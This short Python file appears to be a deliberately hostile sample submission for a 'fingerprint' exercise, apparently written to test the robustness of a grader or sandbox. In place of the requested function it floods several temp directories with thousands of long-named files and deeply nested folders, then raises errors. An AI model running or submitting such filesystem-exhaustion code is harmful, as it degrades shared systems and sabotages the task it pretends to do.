"""tries: to use up the file system's entries: thousands of empty files, deep folders, the longest names"""

# exercise: fingerprint
# earns: none
import os
import tempfile

PLACES = [os.getcwd(), tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp"]


def fingerprint(data):
    for place in dict.fromkeys(PLACES):
        home = os.path.join(place, "som_hostile_entries")
        try:
            os.mkdir(home)
            for number in range(3000):
                open(os.path.join(home, f"{number}" + "x" * 200), "w").close()
        except OSError:
            pass
        try:
            os.chdir(home)
            for _ in range(300):
                os.mkdir("d" * 200)
                os.chdir("d" * 200)
        except OSError:
            pass
    raise RuntimeError("wrong")


def differing_bits(a, b):
    raise RuntimeError("not what this is about")
